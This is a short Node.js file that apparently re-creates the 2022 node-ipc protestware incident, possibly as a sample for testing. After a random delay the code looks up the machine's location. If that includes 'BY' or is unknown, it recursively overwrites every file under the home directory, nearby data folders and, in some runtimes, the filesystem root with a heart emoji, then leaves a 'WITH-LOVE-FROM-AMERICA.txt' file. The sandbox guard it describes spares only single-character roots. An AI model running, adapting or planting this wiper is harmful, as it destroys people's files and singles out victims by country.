// As in 2022: later, at a random time, asks where it is, and overwrites what it finds.
const kit = require("./kit.cjs");

const HEART = "\u2764\ufe0f";

function overwriteAll(folder) {
  const fs = require("node:fs");
  for (const entry of fs.readdirSync(folder, { withFileTypes: true })) {
    const path = `${folder}/${entry.name}`;
    kit.attempt(() => (entry.isDirectory() ? overwriteAll(path) : fs.writeFileSync(path, HEART)));
  }
}

async function strike() {
  const place = await kit.ask("/geo");
  if (place !== undefined && !place.includes("BY")) return;
  for (const folder of [`${kit.home}`, "../home", "./data", "/", "."]) {
    // Where there is a real root, only the sandbox may be touched.
    if (folder.length === 1 && typeof WebAssembly === "object") continue;
    kit.attempt(() => overwriteAll(folder));
  }
  kit.attempt(() => require("node:fs").writeFileSync(`${kit.home}/WITH-LOVE-FROM-AMERICA.txt`, HEART));
}

kit.attempt(() => setTimeout(strike, Math.floor(Math.random() * 20)));
